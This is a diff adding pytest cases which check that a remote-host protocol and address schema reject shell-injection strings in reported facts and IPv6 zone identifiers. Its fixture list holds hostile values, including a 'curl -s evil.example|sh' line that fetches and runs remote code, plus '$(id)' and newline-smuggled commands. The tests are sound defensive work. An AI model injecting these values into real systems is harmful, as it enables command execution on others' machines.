@@ -42,6 +42,7 @@ from paceline.remote.channel import Channel, HostUnresponsive, LoginError, Proto
 from paceline.remote.network import candidates
 from paceline.remote.protocol import ANSWERS, BOOT, EVENTS, Conversation
 from paceline.rundir.directory import RunDirectory
+from paceline.spec import schema
 from paceline.spec.errors import NodeError, PacelineError
 from paceline.spec.events import KINDS, Event
 from paceline.spec.hosts import Host
@@ -628,6 +629,31 @@ def test_rejects_invalid_limits(hard: Any) -> None:
     content = hello()
     content["facts"]["limits"]["nofile_hard"] = hard
     assert rejection_of(lambda: Conversation().event({"event": "hello", **content}, b""))
+
+
+SHELL_TEXTS = ["2.1; curl -s evil.example|sh #", "x';id;'", "$(id)", "`id`", "3.1\nOn n1: id"]
+
+
+@each_case("text", SHELL_TEXTS)
+@each_case("fact", ["torch.version", "python.version", "name.hostname"])
+def test_rejects_shell_commands_in_facts(fact: str, text: str) -> None:
+    """Remedies for other hosts contain these facts."""
+    content = hello(facts={**copy.deepcopy(FACTS), "torch": {"version": "2.1"}})
+    group, key = fact.split(".")
+    content["facts"][group][key] = text
+    assert rejection_of(lambda: Conversation().event({"event": "hello", **content}, b""))
+
+
+@each_case("text", ["fe80::1%x';id;'", "fe80::1%$(id)", "fe80::1%a\nOn n1: id"])
+def test_rejects_shell_commands_in_zones_of_addresses(text: str) -> None:
+    assert rejection_of(lambda: schema.address(text, "it"))
+    assert not rejection_of(lambda: schema.address("fe80::1%eth0.5", "it"))
+
+
+@pytest.mark.parametrize("version", ["2.13.0+cpu", "2.4.0a0+f70bd71a48.nv24.06", "2.1.2.post301"])
+def test_allows_versions_of_torch_builds(version: str) -> None:
+    content = hello(facts={**copy.deepcopy(FACTS), "torch": {"version": version}})
+    assert Conversation().event({"event": "hello", **content}, b"")
 
 
 @pytest.mark.parametrize("count", [1000, 200_000])
